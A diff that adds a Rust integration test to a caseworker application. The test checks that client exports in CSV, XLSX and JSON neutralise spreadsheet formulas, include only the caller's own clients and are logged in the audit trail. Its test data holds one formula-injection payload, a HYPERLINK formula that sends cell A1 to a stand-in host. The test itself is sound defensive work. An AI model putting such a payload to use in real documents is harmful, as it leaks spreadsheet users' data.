@@ -2275,3 +2275,125 @@ async fn project_reports_with_real_readers(store: Store) {
         .await;
     assert_eq!(r.status, StatusCode::NOT_FOUND, "{}", r.body);
 }
+
+both!(exports_are_neutral_scoped_and_audited);
+/// Exports of the client list: a name typed as a formula comes out as text in the CSV (read by Python's csv
+/// module) and the XLSX (read by openpyxl), as it is in the JSON; only what the caller may see; the filters
+/// apply; every export is in the audit trail with its clients; an unknown format names the field.
+async fn exports_are_neutral_scoped_and_audited(store: Store) {
+    let app = App::new(store).await;
+    let mut ids = Vec::new();
+    for (family, given) in [
+        ("=HYPERLINK(\"http://x.example/?\"&A1;\"klik\")", "Formule"),
+        ("Jansen", "+31 6 123"),
+        ("De Vries; van", "Puntkomma \"aanhalingstekens\""),
+    ] {
+        let body = serde_json::json!({"client": {"family_name": family, "given_names": given}}).to_string();
+        let r = app.api("POST", "/api/v1/clients", Some(&body)).await;
+        assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
+        ids.push(r.json()["id"].as_i64().unwrap());
+    }
+    // Another caseworker's client must not come along.
+    let other = app.as_user("bert", "caseworker").await;
+    let theirs = other
+        .api(
+            "POST",
+            "/api/v1/clients",
+            Some(r#"{"client": {"family_name": "Verborgen", "given_names": "Niet"}}"#),
+        )
+        .await;
+    assert_eq!(theirs.status, StatusCode::CREATED);
+
+    let csv = app.get("/clients/export?format=csv").await;
+    assert_eq!(csv.status, StatusCode::OK);
+    assert!(
+        csv.headers[header::CONTENT_DISPOSITION]
+            .to_str()
+            .unwrap()
+            .starts_with("attachment;")
+    );
+    assert!(!csv.body.contains("Verborgen"));
+    let read = python(
+        "import sys, csv\n\
+         rows = list(csv.reader(open(sys.argv[1], encoding='utf-8-sig', newline=''), delimiter=';'))\n\
+         print(len(rows) - 1)\n\
+         for r in rows[1:]: print(r[1] + '|' + r[2])\n",
+        csv.body.as_bytes(),
+        "csv",
+    );
+    let mut lines = read.lines();
+    assert_eq!(lines.next(), Some("3"));
+    let cells: Vec<&str> = lines.collect();
+    assert!(
+        cells.contains(&"'=HYPERLINK(\"http://x.example/?\"&A1;\"klik\")|Formule"),
+        "{cells:?}"
+    );
+    assert!(cells.contains(&"Jansen|'+31 6 123"), "{cells:?}");
+    assert!(
+        cells.contains(&"De Vries; van|Puntkomma \"aanhalingstekens\""),
+        "{cells:?}"
+    );
+
+    let bytes = {
+        let req = Request::get("/api/v1/clients/export?format=xlsx&q=jans")
+            .header(header::AUTHORIZATION, format!("Bearer {}", app.token))
+            .body(Body::empty())
+            .unwrap();
+        let resp = app.router.clone().oneshot(req).await.unwrap();
+        assert_eq!(resp.status(), StatusCode::OK);
+        resp.into_body().collect().await.unwrap().to_bytes()
+    };
+    let read = python(
+        "import sys, openpyxl\n\
+         ws = openpyxl.load_workbook(sys.argv[1]).active\n\
+         rows = list(ws.iter_rows(min_row=2, values_only=True))\n\
+         print(len(rows), rows[0][1], rows[0][2], ws.cell(2, 3).data_type)\n",
+        &bytes,
+        "xlsx",
+    );
+    // The search applied (one Jansen), and the cell is text beginning with the apostrophe.
+    assert_eq!(read.trim(), "1 Jansen '+31 6 123 s");
+
+    let json = app
+        .api("GET", "/api/v1/clients/export?format=json", None)
+        .await
+        .json();
+    assert_eq!(json.as_array().unwrap().len(), 3);
+    assert!(
+        json.as_array()
+            .unwrap()
+            .iter()
+            .any(|c| c["family_name"].as_str().unwrap().starts_with("=HYPERLINK"))
+    );
+    let bad = app.api("GET", "/api/v1/clients/export?format=docx", None).await;
+    assert_eq!(
+        (bad.status, bad.json()["field"].as_str()),
+        (StatusCode::UNPROCESSABLE_ENTITY, Some("format"))
+    );
+    // An auditor exports no names.
+    let auditor = app.as_user("controle", "auditor").await;
+    assert_eq!(
+        auditor.get("/clients/export?format=csv").await.status,
+        StatusCode::FORBIDDEN
+    );
+
+    // The trail: three exports (csv, xlsx, json), each with its clients.
+    let sql = "SELECT detail FROM audit_log WHERE action = 'export' ORDER BY seq";
+    let exports: Vec<String> = match app.store.db() {
+        terugkeer_store::Db::Sqlite(p) => sqlx::query_scalar(sql).fetch_all(p).await.unwrap(),
+        terugkeer_store::Db::Postgres(p) => sqlx::query_scalar(sql).fetch_all(p).await.unwrap(),
+    };
+    assert_eq!(exports.len(), 3, "{exports:?}");
+    let detail: serde_json::Value = serde_json::from_str(&exports[0]).unwrap();
+    assert_eq!(detail["format"], "csv");
+    assert_eq!(detail["count"], 3);
+    let mut listed: Vec<i64> = detail["clients"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|v| v.as_i64().unwrap())
+        .collect();
+    listed.sort();
+    assert_eq!(listed, ids);
+    assert_eq!(app.store.verify_audit().await.unwrap().first_bad, None);
+}
